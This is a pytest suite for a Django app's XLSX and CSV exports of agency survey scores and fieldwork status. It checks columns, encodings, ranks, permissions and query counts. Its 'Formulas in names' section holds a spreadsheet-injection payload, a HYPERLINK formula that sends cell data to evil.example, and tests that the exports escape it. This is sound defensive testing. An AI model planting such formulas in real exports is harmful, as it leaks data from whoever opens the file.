"""The exports of DGA staff's dashboards: all results of a year (one row per scored agency, read
back with openpyxl and csv and checked against the current run's score rows) and the fieldwork
list; their file names and encodings; their queries at two sizes and at 1,922 agencies."""

import csv
import io
from collections import defaultdict
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from agencies.models import Agency, Ministry, Province, ProvincialUnitType
from agencies.tests.factories import (
    DepartmentFactory,
    MembershipFactory,
    ProvinceFactory,
    ProvincialUnitFactory,
)
from surveys.models import (
    Dimension,
    DimensionScore,
    Response,
    ResponseRank,
    ResponseScore,
    ScoringRun,
    SurveyYear,
)
from surveys.scores import run_aggregate
from surveys.scoring import score_difference, score_display
from surveys.tests.factories import SurveyYearFactory
from surveys.tests.scored import Figures, scored_year

from .conftest import PREVIOUS, YEAR

D = Decimal
SCOPES = ["national", "level", "ministry", "award_group", "province", "unit_type"]
SCOPE_NAMES = {
    "national": "National",
    "level": "Agency level",
    "ministry": "Ministry",
    "award_group": "Award group",
    "province": "Province",
    "unit_type": "Provincial unit type",
}
RESULT_COLUMNS = [
    "Agency code",
    "Name (Thai)",
    "Name (English)",
    "Level",
    "Ministry",
    "Award group",
    "Province",
    "Provincial unit type",
    "Overall score",
    "POLICY",
    "SERVICE",
    "Previous overall score",
    "Change",
    "Held back (unscorable answers)",
    *[f"{kind}: {SCOPE_NAMES[scope]}" for scope in SCOPES for kind in ("Rank", "Mean")],
]
FIELDWORK_COLUMNS = [
    "Agency code",
    "Name (Thai)",
    "Name (English)",
    "Level",
    "Ministry",
    "Province",
    "Status",
    "Invited at",
    "Started at",
    "Submitted at",
    "Last activity",
    "People with an account",
]


def english(client):
    client.post(reverse("set_language"), {"language": "en", "next": "/"})
    return client


def xlsx_rows(response) -> list[dict]:
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def csv_rows(response) -> list[dict]:
    assert response.content.startswith(b"\xef\xbb\xbf")  # the BOM: Excel reads Thai as Thai
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


def number(cell) -> Decimal | None:
    return None if cell in (None, "") else D(str(cell))


def expected_rows(year: int) -> dict[str, dict]:
    """What the export must say of each agency, straight from the current run's score rows."""
    run = ScoringRun.objects.get(year__year=year, is_current=True)
    dimensions = defaultdict(dict)
    for score_id, code, value in DimensionScore.objects.filter(score__run=run).values_list(
        "score_id", "dimension__code", "value"
    ):
        dimensions[score_id][code] = score_display(value)
    ranks = defaultdict(dict)
    for rank in ResponseRank.objects.filter(score__run=run).select_related("group"):
        ranks[rank.score_id][rank.group.scope] = (rank.rank, score_display(rank.group.overall_mean))
    rows = {}
    for score in ResponseScore.objects.filter(run=run).select_related("response__agency"):
        rows[score.response.agency.code] = {
            "overall": score_display(score.overall),
            "previous": score_display(score.previous_overall),
            "change": score_difference(score.overall, score.previous_overall),
            "dimensions": dimensions[score.pk],
            "ranks": ranks[score.pk],
            "agency": score.response.agency,
        }
    return rows


def assert_row_matches(row: dict, expected: dict):
    agency = expected["agency"]
    assert row["Name (Thai)"] == agency.name_th
    assert row["Name (English)"] == agency.name_en
    assert number(row["Overall score"]) == expected["overall"]
    assert number(row["Previous overall score"]) == expected["previous"]
    assert number(row["Change"]) == expected["change"]
    for code, value in expected["dimensions"].items():
        assert number(row[code]) == value
    for scope in SCOPES:
        rank, mean = expected["ranks"].get(scope, (None, None))
        assert number(row[f"Rank: {SCOPE_NAMES[scope]}"]) == rank
        assert number(row[f"Mean: {SCOPE_NAMES[scope]}"]) == mean


@pytest.fixture
def staff_client(client, dga_staff):
    client.force_login(dga_staff)
    return english(client)


# All results of a year ----------------------------------------------------------------------------


def test_results_xlsx_has_one_row_per_scored_agency_with_the_run_s_numbers(staff_client, published):
    response = staff_client.get(reverse("results:export", args=[YEAR, "xlsx"]))

    assert response.status_code == 200
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert response["Content-Disposition"] == 'attachment; filename="dgaweb-2568-results.xlsx"'
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert [cell.value for cell in sheet[1]] == RESULT_COLUMNS
    rows = xlsx_rows(response)
    expected = expected_rows(YEAR)
    assert [row["Agency code"] for row in rows] == [  # best first; D (never submitted) absent
        published.a.code, published.b.code, published.u3.code, published.c.code,
        published.u2.code, published.u1.code,
    ]  # fmt: skip
    for row in rows:
        assert_row_matches(row, expected[row["Agency code"]])


def test_results_change_is_that_of_the_two_scores_beside_it(staff_client, close_figures):
    rows = {row["Agency code"]: row for row in csv_rows(
        staff_client.get(reverse("results:export", args=[YEAR, "csv"]))
    )}  # fmt: skip

    a = rows[close_figures.a.code]
    # 61.904 against 62.296 the year before: the sheet shows 61.90, 62.30 and −0.40.
    assert (a["Overall score"], a["Previous overall score"], a["Change"]) == (
        "61.90",
        "62.30",
        "-0.40",
    )


def test_results_xlsx_names_each_agency_s_groups(staff_client, published):
    rows = {row["Agency code"]: row for row in xlsx_rows(
        staff_client.get(reverse("results:export", args=[YEAR, "xlsx"]))
    )}  # fmt: skip

    a, u1 = rows[published.a.code], rows[published.u1.code]
    assert (a["Level"], a["Ministry"], a["Award group"]) == (
        "Department level", published.m1.name_en, "Service-providing",
    )  # fmt: skip
    assert a["Province"] in (None, "")
    assert a["Rank: Province"] in (None, "")
    assert (u1["Level"], u1["Province"]) == ("Provincial unit", published.p1.name_en)
    assert u1["Ministry"] == published.u1.parent.ministry.name_en  # its parent's ministry
    assert u1["Provincial unit type"] == published.u1.unit_type.name_en
    # A: first of 6 nationally, first of 3 departments, first of the 2 in ministry M1.
    assert (a["Rank: National"], a["Rank: Agency level"], a["Rank: Ministry"]) == (1, 1, 1)
    # U1 48, U2 50 in P1: U1 second, and P1's mean is 49.
    assert (u1["Rank: Province"], number(u1["Mean: Province"])) == (2, D("49.00"))


def test_results_csv_is_utf8_with_a_bom_and_the_same_numbers(staff_client, published):
    response = staff_client.get(reverse("results:export", args=[YEAR, "csv"]))

    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"] == 'attachment; filename="dgaweb-2568-results.csv"'
    rows = csv_rows(response)
    expected = expected_rows(YEAR)
    assert list(rows[0]) == RESULT_COLUMNS
    assert {row["Agency code"] for row in rows} == set(expected)
    for row in rows:
        assert_row_matches(row, expected[row["Agency code"]])
    assert rows[0]["Name (Thai)"] == published.a.name_th  # Thai, not mojibake


def test_results_export_lists_held_back_scores_without_ranks(staff_client, registry):
    r = registry
    scored_year(2569, {r.a: Figures("80"), r.b: Figures("60", problems=[{"question": "Q-1"}])})

    rows = {row["Agency code"]: row for row in xlsx_rows(
        staff_client.get(reverse("results:export", args=[2569, "xlsx"]))
    )}  # fmt: skip

    assert rows[r.b.code]["Held back (unscorable answers)"] == 1
    assert rows[r.b.code]["Rank: National"] in (None, "")
    assert rows[r.a.code]["Rank: National"] == 1
    assert number(rows[r.a.code]["Mean: National"]) == D("80.00")  # B is not in the mean


def test_results_export_of_an_unpublished_year_is_for_dga_staff_only(
    client, registry, member_of, committee_member, dga_staff
):
    scored_year(2569, {registry.a: Figures("80")})
    url = reverse("results:export", args=[2569, "xlsx"])

    assert client.get(url).status_code == 302
    for user in (member_of(registry.a), committee_member):
        client.force_login(user)
        assert client.get(url).status_code == 403
    client.force_login(dga_staff)
    assert client.get(url).status_code == 200


# The fieldwork list -------------------------------------------------------------------------------


def test_fieldwork_export_is_the_chase_list_by_default(staff_client, published):
    response = staff_client.get(reverse("results:fieldwork_export", args=[YEAR, "xlsx"]))

    assert response["Content-Disposition"] == 'attachment; filename="dgaweb-2568-fieldwork.xlsx"'
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert [cell.value for cell in sheet[1]] == FIELDWORK_COLUMNS
    (row,) = xlsx_rows(response)
    assert (row["Agency code"], row["Status"], row["Started at"]) == (
        published.d.code, "Not started", None,
    )  # fmt: skip
    assert row["Ministry"] == published.m2.name_en
    assert row["People with an account"] == 0


def test_fieldwork_export_of_everyone_with_dates_and_accounts(staff_client, published):
    MembershipFactory(agency=published.a)
    d_response = Response.objects.get(year=published.year, agency=published.d)

    response = staff_client.get(
        reverse("results:fieldwork_export", args=[YEAR, "csv"]), {"status": "all"}
    )

    rows = {row["Agency code"]: row for row in csv_rows(response)}
    assert len(rows) == Response.objects.filter(year=published.year).count() == 7
    a_response = Response.objects.get(year=published.year, agency=published.a)
    a = rows[published.a.code]
    assert a["Status"] == "Submitted"
    local = timezone.localtime(a_response.submitted_at).replace(tzinfo=None)
    assert a["Submitted at"] == str(local)
    assert a["People with an account"] == "1"
    assert rows[published.d.code]["Invited at"] == str(
        timezone.localtime(d_response.invited_at).replace(tzinfo=None)
    )
    assert rows[published.d.code]["Submitted at"] == ""


def test_fieldwork_export_follows_the_page_s_filters(staff_client, published):
    response = staff_client.get(
        reverse("results:fieldwork_export", args=[YEAR, "csv"]),
        {"status": "submitted", "level": "provincial_unit", "province": published.p1.code},
    )

    assert {row["Agency code"] for row in csv_rows(response)} == {
        published.u1.code,
        published.u2.code,
    }


# Formulas in names --------------------------------------------------------------------------------

# A link that would send the sheet's next cell to another site, and an @ formula (OWASP, "CSV
# Injection"): agencies' names are typed by people the exports' readers should not have to trust.
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&B2,"ดูผล")'
AT_FORMULA = "@SUM(1+1)"
EXPORTS = [("results:export", {}), ("results:fieldwork_export", {"status": "all"})]


@pytest.mark.parametrize(("export", "query"), EXPORTS)
def test_xlsx_exports_hold_names_as_text_not_formulas(staff_client, published, export, query):
    Agency.objects.filter(pk=published.a.pk).update(name_th=HYPERLINK, name_en=AT_FORMULA)

    response = staff_client.get(reverse(export, args=[YEAR, "xlsx"]), query)

    sheet = load_workbook(io.BytesIO(response.content)).active
    headers = [cell.value for cell in sheet[1]]
    (a,) = [row for row in sheet.iter_rows(min_row=2) if row[0].value == published.a.code]
    names = [a[headers.index("Name (Thai)")], a[headers.index("Name (English)")]]
    assert [(cell.data_type, cell.value) for cell in names] == [
        ("s", f"'{HYPERLINK}"),
        ("s", f"'{AT_FORMULA}"),
    ]


@pytest.mark.parametrize(("export", "query"), EXPORTS)
def test_csv_exports_write_formulas_as_text(staff_client, published, export, query):
    Agency.objects.filter(pk=published.a.pk).update(name_th=HYPERLINK, name_en=AT_FORMULA)

    response = staff_client.get(reverse(export, args=[YEAR, "csv"]), query)

    (a,) = [row for row in csv_rows(response) if row["Agency code"] == published.a.code]
    assert (a["Name (Thai)"], a["Name (English)"]) == (f"'{HYPERLINK}", f"'{AT_FORMULA}")


def test_results_csv_keeps_a_negative_change_a_number(staff_client, close_figures):
    rows = {row["Agency code"]: row for row in csv_rows(
        staff_client.get(reverse("results:export", args=[YEAR, "csv"]))
    )}  # fmt: skip

    assert rows[close_figures.a.code]["Change"] == "-0.40"  # not '-0.40


# Queries and speed --------------------------------------------------------------------------------


@pytest.fixture
def sized(db):
    """Scored years 2567 and 2568 of `n` departments and `n` provincial units (each in a
    province of its own), with an account each."""

    def build(n):
        agencies = [DepartmentFactory() for _ in range(n)]
        agencies += [ProvincialUnitFactory(province=ProvinceFactory()) for _ in range(n)]
        scored_year(PREVIOUS, {a: Figures(str(40 + i)) for i, a in enumerate(agencies)})
        scored_year(
            YEAR, {a: Figures(str(50 + i), previous=str(40 + i)) for i, a in enumerate(agencies)}
        )
        for agency in agencies:
            MembershipFactory(agency=agency)
        return agencies

    return build


AUTH = 3  # the session, the user, the user's groups (dashboards_required)


@pytest.mark.parametrize("n", [2, 8])
@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_results_export_queries_do_not_grow(staff_client, sized, django_assert_num_queries, n, fmt):
    sized(n)

    # The year; its current run; its dimensions; the scores with their agencies, ministries,
    # parents' ministries, provinces and unit types; the dimension scores; the ranks with
    # their groups.
    with django_assert_num_queries(AUTH + 6):
        response = staff_client.get(reverse("results:export", args=[YEAR, fmt]))

    assert response.status_code == 200


@pytest.mark.parametrize("n", [2, 8])
@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_fieldwork_export_queries_do_not_grow(
    staff_client, sized, django_assert_num_queries, n, fmt
):
    sized(n)

    # The year; the ministries and provinces of the filters; the responses with their agencies,
    # statuses, last activity and accounts.
    with django_assert_num_queries(AUTH + 4):
        response = staff_client.get(
            reverse("results:fieldwork_export", args=[YEAR, fmt]), {"status": "all"}
        )

    assert response.status_code == 200


def test_results_xlsx_of_1922_agencies_holds_every_row_in_the_same_queries(
    staff_client, django_assert_num_queries, db
):
    """DGA's 2021 target list: 322 departments and 1,600 provincial units (20 in each of 80
    provinces), scored in bulk. Its time is measured by bench/results.py, not here."""
    year = SurveyYearFactory(year=YEAR, status=SurveyYear.Status.SCORED)
    dimensions = [
        Dimension.objects.create(
            year=year, code=code, order=i, name_th=code, name_en=code, weight=D(50)
        )
        for i, code in enumerate(("POLICY", "SERVICE"))
    ]
    ministries = Ministry.objects.bulk_create(
        Ministry(code=f"M{i}", name_th=f"กระทรวง {i}", name_en=f"Ministry {i}") for i in range(20)
    )
    departments = Agency.objects.bulk_create(
        Agency(
            code=f"D{i}", name_th=f"กรม {i}", name_en=f"Department {i}", level="department",
            award_group="service" if i % 3 else "policy", ministry=ministries[i % 20],
        )
        for i in range(322)
    )  # fmt: skip
    provinces = Province.objects.bulk_create(
        Province(code=f"TH-{i:02d}", name_th=f"จังหวัด {i}", name_en=f"Province {i}", region="north")
        for i in range(80)
    )
    unit_types = ProvincialUnitType.objects.bulk_create(
        ProvincialUnitType(
            number=t, code=f"T{t}", name_th=f"สำนักงาน {t}", name_en=f"Office {t}",
            parent_department=departments[t],
        )
        for t in range(20)
    )  # fmt: skip
    units = Agency.objects.bulk_create(
        Agency(
            code=f"U{p}-{t}", name_th=f"สำนักงาน {t} จังหวัด {p}", name_en=f"Office {t} {p}",
            level="provincial_unit", province=provinces[p], unit_type=unit_types[t],
            parent=departments[t],
        )
        for p in range(80)
        for t in range(20)
    )  # fmt: skip
    agencies = departments + units
    assert len(agencies) == 1922
    now = timezone.now()
    responses = Response.objects.bulk_create(
        Response(year=year, agency=agency, status="submitted", submitted_at=now)
        for agency in agencies
    )
    run = ScoringRun.objects.create(year=year, trigger="recompute", status="complete")
    scores = ResponseScore.objects.bulk_create(
        ResponseScore(run=run, response=response, overall=D(i % 97) + D("0.5"))
        for i, response in enumerate(responses)
    )
    DimensionScore.objects.bulk_create(
        DimensionScore(
            score=score, dimension=dimension, earned=score.overall, possible=100,
            value=score.overall,
        )
        for score in scores
        for dimension in dimensions
    )  # fmt: skip
    run_aggregate(run)
    run.is_current = True
    run.save(update_fields=["is_current"])

    with django_assert_num_queries(AUTH + 6):
        response = staff_client.get(reverse("results:export", args=[YEAR, "xlsx"]))

    assert response.status_code == 200
    rows = xlsx_rows(response)
    assert len(rows) == 1922
    assert {next(iter(row.values())) for row in rows} == {agency.code for agency in agencies}
